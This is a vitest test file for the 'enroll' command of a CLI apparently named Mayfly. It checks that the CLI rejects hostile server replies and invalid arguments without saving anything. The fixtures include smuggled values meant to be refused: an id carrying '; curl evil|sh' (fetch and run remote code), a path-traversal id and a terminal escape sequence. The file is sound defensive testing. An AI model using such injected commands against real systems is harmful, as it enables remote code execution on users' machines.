import { readFile, rm } from 'node:fs/promises'
import { createServer } from 'node:http'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { POLICY_YAML, pendingOf } from './enroll-support.ts'
import { newHome, runCli, startWorld, type World } from './support.ts'

let world: World
let home: { home: string; env: Record<string, string> }
beforeAll(async () => {
  world = await startWorld({ yaml: POLICY_YAML })
})
afterAll(() => world.close())
beforeEach(async () => {
  home = await newHome()
  Object.assign(home.env, { MAYFLY_SERVER: world.url })
})
afterEach(() => rm(home.home, { recursive: true }))

const enroll = (argv: string[]) => runCli(['enroll', ...argv], { env: home.env })
const isKept = () =>
  readFile(join(home.home, 'config/mayfly/secrets/default.enrollment.json')).then(
    () => true,
    () => false,
  )

/** Something that answers as it likes. */
async function answering(replies: Record<string, unknown>): Promise<{ url: string; close: () => void }> {
  const server = createServer((request, reply) => {
    const all: Record<string, unknown> = {
      configuration: { issuer: `http://${request.headers.host}` },
      ...replies,
    }
    const key = Object.keys(all).find((path) => request.url?.endsWith(path)) ?? ''
    reply.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(all[key]))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('no port')
  return { url: `http://127.0.0.1:${address.port}`, close: () => server.close() }
}

describe('a hostile or broken server', () => {
  const id = 'enr_01m802zb5ses7v984pj46dz6zt'
  const enrolled = {
    id,
    enrollment_id: id,
    status: 'pending',
    poll_url: '',
    poll_interval_ms: 2_000,
    expires_at: '2099-01-01T00:00:00Z',
  }
  const none = 'What answered does not look like a Mayfly server.'
  test.each<[string, Record<string, unknown>, number, string]>([
    ['no object', { '/v1/enroll': null }, 3, none],
    ['no id', { '/v1/enroll': { ...enrolled, id: undefined } }, 3, none],
    ['a command for an id', { '/v1/enroll': { ...enrolled, id: `${id}; curl evil|sh` } }, 3, none],
    ['a path for an id', { '/v1/enroll': { ...enrolled, id: '../../v1/self' } }, 3, none],
    ['an escape for an id', { '/v1/enroll': { ...enrolled, id: `${id}\u001b[2J` } }, 3, none],
    ['no time', { '/v1/enroll': { ...enrolled, expires_at: 'soon' } }, 3, none],
    ['no interval', { '/v1/enroll': { ...enrolled, poll_interval_ms: 'often' } }, 3, none],
    ['an unknown status', { '/v1/enroll': enrolled, '/status': { ...enrolled, status: 'great' } }, 3, none],
    [
      'an answer that is none',
      {
        '/v1/enroll': enrolled,
        '/status': { ...enrolled, status: 'approved', sealed: 'e30....' },
      },
      1,
      'The answer of the server cannot be decrypted.',
    ],
  ])('%s', async (_, replies, code, message) => {
    const other = await answering(replies)
    try {
      const end = await enroll(['--name', 'a', '--server', other.url])
      expect([end.code, end.stdout]).toEqual([code, ''])
      expect(end.stderr.startsWith(`mayfly: ${message} `)).toBe(true)
      expect(end.stderr.split('\n')).toHaveLength(2)
    } finally {
      other.close()
    }
  })
})

describe('stores nothing for a request that cannot be made:', () => {
  test.each([
    ['no name, and nobody to ask', [], 'There is no terminal to ask: Name of the agent. Set it with --name.'],
    ['a name that cannot be one', ['--name', 'a/b'], /name/],
    ['an empty name', ['--name', ''], /name/],
    ['a scope that is none', ['--name', 'a', '--scope', 'a b'], /scope/],
    ['metadata without a name', ['--name', 'a', '--metadata', 'x'], /--metadata takes name=text/],
    ['metadata that is no JSON', ['--name', 'a', '--metadata', 'x:={'], /is not JSON/],
    ['a server that is none', ['--name', 'a', '--server', 'mayfly'], /is not a server address/],
    ['a profile that cannot be one', ['--name', 'a', '--profile', '../x'], /is not a valid profile name/],
    ['an unknown option', ['--nmae', 'a'], /--name/],
    ['too much', ['a'], /arguments/],
  ])('%s', async (_, argv, message) => {
    const end = await enroll(argv)
    expect([end.code, end.stdout]).toEqual([2, ''])
    expect(end.stderr).toMatch(message)
    expect(end.stderr).toMatch(/^mayfly: [^\n]+\n$/)
    expect(await isKept()).toBe(false)
    expect(await pendingOf(world.app)).toEqual([])
  })

  test('no server', async () => {
    const end = await enroll(['--name', 'a', '--server', 'http://127.0.0.1:9'])
    expect([end.code, end.stderr]).toEqual([
      3,
      'mayfly: Cannot reach http://127.0.0.1:9: nothing is listening there. Start it with `mayfly server`, or give its address with --server or MAYFLY_SERVER.\n',
    ])
  })

  test('another service that answers', async () => {
    const end = await enroll(['--name', 'a', '--server', `${world.url}/docs`])
    expect(end.code).not.toBe(0)
    expect(await isKept()).toBe(false)
  })

  test('sends nothing if it cannot write its record', async () => {
    const env = { ...home.env, XDG_CONFIG_HOME: '/dev/null' }
    const end = await runCli(['enroll', '--name', 'a'], { env })
    expect([end.code, end.stderr]).toEqual([1, expect.stringMatching(/^mayfly: [^\n]+\n$/)])
    expect(await pendingOf(world.app)).toEqual([])
  })
})
